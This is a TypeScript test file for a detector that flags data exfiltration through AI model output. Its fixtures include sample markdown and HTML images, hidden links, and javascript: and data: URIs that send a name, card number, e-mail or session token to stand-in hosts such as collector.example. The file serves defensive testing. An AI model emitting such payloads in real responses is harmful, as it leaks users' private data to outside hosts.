import { leakageContext, segmentOf } from '../leakage.test-context';
import { createOutputExfiltrationDetector } from './output-exfiltration.detector';

const detector = createOutputExfiltrationDetector();
const scan = (text: string, options: Record<string, unknown> = {}, field: 'output' | 'input' = 'output') =>
  detector.detectSegment!(segmentOf(text, field), leakageContext(options));
const rules = (text: string, options: Record<string, unknown> = {}) =>
  scan(text, options).map((hit) => hit.rule_id);

describe('output exfiltration detector', () => {
  it('reports a markdown image whose query carries data, without showing the query', () => {
    const data = Buffer.from('Jane Doe|4111111111111111').toString('base64');
    const [hit] = scan(`Done.\n\n![x](https://collector.example/p.png?d=${data})`);
    expect(hit?.rule_id).toBe('output_exfiltration.image_data');
    expect(hit?.severity).toBe('critical');
    expect(hit?.evidence).not.toContain(data);
    expect(hit?.attributes?.host).toBe('collector.example');
  });

  it.each([
    [
      'an HTML image with an e-mail',
      '<img src="https://t.example/a.gif?u=jane%40mail.example" width="1">',
      'image_data',
    ],
    ['a link carrying a long number', '[statement](https://t.example/s?acct=12345678901)', 'link_data'],
    [
      'a link with a long mixed path segment',
      '[go](https://t.example/c/a8F3kLq92ZpX7mN4bV6cR1tY5uW0eQ3s)',
      'link_data',
    ],
    ['a javascript: link', '[click](javascript:fetch(1))', 'script_uri'],
    ['an HTML data: iframe', '<iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>', 'data_uri'],
    ['an empty-text link', 'see [](https://t.example/x)', 'hidden_link'],
    [
      'a hidden anchor',
      '<a href="https://t.example/x?session=abcdefghijklmnopqrstuvwxyz0123" style="display:none">x</a>',
      'hidden_link_data',
    ],
  ])('reports %s', (_name, text, rule) => {
    expect(rules(text)).toEqual([`output_exfiltration.${rule}`]);
  });

  it.each([
    ['a plain link', 'See [our fees](https://bank.example/fees) for details.'],
    ['a short query', '![logo](https://cdn.example/logo.png?v=3)'],
    ['prose with brackets', 'Options [a] and [b] (both fine).'],
    ['a relative link', '[help](/help/cards?topic=freeze-your-card-now-please)'],
  ])('ignores %s', (_name, text) => {
    expect(scan(text)).toEqual([]);
  });

  it('allows listed domains and their subdomains', () => {
    const text = '![c](https://charts.bank.example/render.png?series=aapl,msft,goog,amzn&range=1y)';
    expect(rules(text)).toEqual(['output_exfiltration.image_data']);
    expect(rules(text, { allowed_domains: ['bank.example'] })).toEqual([]);
  });

  it('scans only outputs by default', () => {
    expect(scan('![x](https://t.example/p?d=abcdefghijklmnopqrstuvwxyz0123)', {}, 'input')).toEqual([]);
  });
});
